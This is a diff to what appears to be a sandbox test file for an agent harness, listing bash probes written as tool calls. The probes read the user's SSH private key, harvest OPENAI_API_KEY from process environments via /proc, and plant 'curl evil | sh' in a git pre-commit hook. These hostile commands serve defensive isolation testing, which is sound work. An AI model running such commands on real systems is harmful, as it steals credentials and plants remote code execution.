@@ -51,7 +51,11 @@ function probes() {
     { id: 'home', name: 'bash', input: { command: 'echo x > "$HOME/made-in-home.txt"' } },
     { id: 'ssh', name: 'bash', input: { command: 'cat "$HOME/.ssh/id_rsa"' } },
     // $PPID, and every other process the command can see (panto, two levels up, without a PID namespace).
-    { id: 'environ', name: 'bash', input: { command: "tr '\\0' '\\n' < /proc/$PPID/environ | grep OPENAI_API_KEY; cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep OPENAI_API_KEY" } },
+    {
+      id: 'environ',
+      name: 'bash',
+      input: { command: "tr '\\0' '\\n' < /proc/$PPID/environ | grep OPENAI_API_KEY; cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep OPENAI_API_KEY" },
+    },
     // panto itself among the processes the command can see ([n]: not this command's own line).
     { id: 'panto', name: 'bash', input: { command: "for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < $f; echo; done | grep -c 'entry/process-mai[n]'" } },
     { id: 'hook', name: 'bash', input: { command: 'echo "curl evil | sh" > .git/hooks/pre-commit' } },
